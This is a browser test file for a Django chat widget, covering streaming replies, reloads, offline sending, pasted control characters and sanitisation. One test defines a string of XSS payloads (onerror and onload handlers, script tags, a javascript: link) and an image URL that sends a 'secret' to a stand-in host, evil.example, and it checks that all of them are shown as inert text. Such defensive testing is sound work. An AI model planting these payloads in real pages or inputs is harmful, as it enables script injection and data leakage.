"""The customer's side in a real browser: the demo page, its widget, and the live server."""

from __future__ import annotations

from typing import Any

import pytest
from django.conf import settings

from assistant.chat import services
from assistant.chat.models import Conversation, Message
from assistant.demo import load_demo_data
from tests import factories
from tests.browser.conftest import in_thread

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
# What a person would see, kept for looking at after a run (var/test/screenshots/).
SCREENSHOTS = settings.VAR_DIR / "screenshots"
SCREENSHOTS.mkdir(parents=True, exist_ok=True)


def open_widget(page: Any, server: Any) -> None:
    page.goto(f"{server.url}/demo/")
    page.get_by_test_id("launcher").click()
    page.wait_for_selector("[data-testid=panel][data-state=open]")


def send(page: Any, text: str) -> None:
    page.get_by_test_id("input").fill(text)
    page.get_by_test_id("send").click()


def wait_for_answer(page: Any) -> None:
    """Until an assistant message is complete (stored, no longer streaming)."""
    page.locator("[data-testid=message][data-author=assistant]:not([data-stream])").first.wait_for()


def assistant_texts(page: Any) -> list[str]:
    return page.locator("[data-testid=message][data-author=assistant]").all_inner_texts()


def test_a_customer_chats_and_watches_the_answer_stream_in(
    page: Any, simulated_web_server: Any
) -> None:
    load_demo_data(port=simulated_web_server.port)
    open_widget(page, simulated_web_server)
    send(page, "tell me a long story")
    bubble = page.locator("[data-testid=message][data-author=assistant]").last
    bubble.wait_for()
    # Sample the growing answer: streamed token by token, it is seen at several lengths.
    lengths = set()
    for _ in range(60):
        lengths.add(len(bubble.inner_text()))
        if "word119" in bubble.inner_text():
            break
        page.wait_for_timeout(25)
    assert len(lengths) >= 3, lengths
    wait_for_answer(page)
    assert "word0 word1" in assistant_texts(page)[-1]


def test_a_reload_restores_the_conversation(page: Any, web_server: Any) -> None:
    load_demo_data(port=web_server.port)
    open_widget(page, web_server)
    send(page, "Hello there")
    wait_for_answer(page)
    page.reload()
    page.wait_for_selector("[data-testid=panel][data-state=open]")
    customer = page.locator("[data-testid=message][data-author=customer]").all_inner_texts()
    assert len(customer) == 1 and "Hello there" in customer[0]
    assert len(assistant_texts(page)) == 1


def test_going_offline_and_back_loses_no_message(page: Any, context: Any, web_server: Any) -> None:
    load_demo_data(port=web_server.port)
    inbox = factories.Inbox.objects.get(public_key="pk_demo_northwind")
    inbox.bot_enabled = False  # only the customer's own messages, to count them exactly
    inbox.save()
    open_widget(page, web_server)
    send(page, "first, while online")
    page.wait_for_selector("[data-testid=message][data-author=customer]:not([data-pending])")
    context.set_offline(True)
    page.wait_for_timeout(500)
    send(page, "second, written offline")
    page.wait_for_timeout(1500)
    context.set_offline(False)
    page.wait_for_function(
        "() => [...document.querySelector('assistant-widget').shadowRoot"
        ".querySelectorAll('[data-testid=message][data-author=customer]')]"
        ".every((m) => !m.hasAttribute('data-pending')) && "
        "document.querySelector('assistant-widget').shadowRoot"
        ".querySelectorAll('[data-testid=message][data-author=customer]').length === 2",
        timeout=40_000,
    )
    stored = list(
        Message.objects.filter(author_kind="customer")
        .order_by("seq")
        .values_list("text", flat=True)
    )
    assert stored == ["first, while online", "second, written offline"]


HOSTILE = (
    '<img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script> '
    "[click me](javascript:window.__pwned=3) ![tracker](https://evil.example/pixel.png?d=secret) "
    '<iframe src="https://evil.example"></iframe> <svg onload="window.__pwned=4"></svg>'
)


def test_hostile_text_from_customers_and_agents_is_inert(page: Any, web_server: Any) -> None:
    load_demo_data(port=web_server.port)
    open_widget(page, web_server)
    send(page, HOSTILE)
    wait_for_answer(page)
    conversation = Conversation.objects.get()
    agent = factories.make_user(
        "mallory-agent", first_name='<img src=x onerror="window.__pwned=5">'
    )
    in_thread(
        services.agent_message_create, conversation_id=conversation.pk, agent=agent, text=HOSTILE
    )
    page.locator("[data-testid=message][data-author=agent]").first.wait_for()

    shadow = "document.querySelector('assistant-widget').shadowRoot"
    selector = "img, script, iframe, object, embed, [onerror], [onload]"
    dangerous = page.evaluate(f"() => {shadow}.querySelectorAll('{selector}').length")
    javascript_links = page.evaluate(
        f"() => [...{shadow}.querySelectorAll('a')].filter(a => !/^https?:/.test(a.href)).length"
    )
    assert dangerous == 0
    assert javascript_links == 0
    assert page.evaluate("() => window.__pwned") is None
    # The text is still there, shown as text.
    assert (
        "<script>" in page.locator("[data-testid=message][data-author=customer]").first.inner_text()
    )


@pytest.mark.parametrize(
    "viewport", [{"width": 1280, "height": 860}, {"width": 390, "height": 760}]
)
def test_text_pasted_with_control_characters_is_sent_as_the_customer_sees_it(
    page: Any, web_server: Any, viewport: dict[str, int]
) -> None:
    """A word processor's line break (vertical tab) or a stray NUL in a paste would be refused by
    the server: the widget sends the text as the customer sees it, once, without an error."""
    load_demo_data(port=web_server.port)
    inbox = factories.Inbox.objects.get(public_key="pk_demo_northwind")
    inbox.bot_enabled = False
    inbox.save()
    page.set_viewport_size(viewport)
    open_widget(page, web_server)
    page.get_by_test_id("input").evaluate(
        "(el) => { el.value = 'Order 1234\\u000bplease cancel\\u0000 it \\ud83d'; "
        "el.dispatchEvent(new Event('input', {bubbles: true})); }"
    )
    page.get_by_test_id("send").click()
    sent = page.locator("[data-testid=message][data-author=customer]:not([data-pending])")
    sent.first.wait_for()
    page.wait_for_timeout(300)
    page.screenshot(path=str(SCREENSHOTS / f"widget-pasted-control-{viewport['width']}.png"))
    assert sent.count() == 1
    assert sent.first.inner_text().count("please cancel it") == 1
    panel = page.get_by_test_id("panel").inner_text()
    assert "couldn't be sent" not in panel and "went wrong" not in panel
    assert list(Message.objects.values_list("text", flat=True)) == [
        "Order 1234\nplease cancel it \ufffd"
    ]
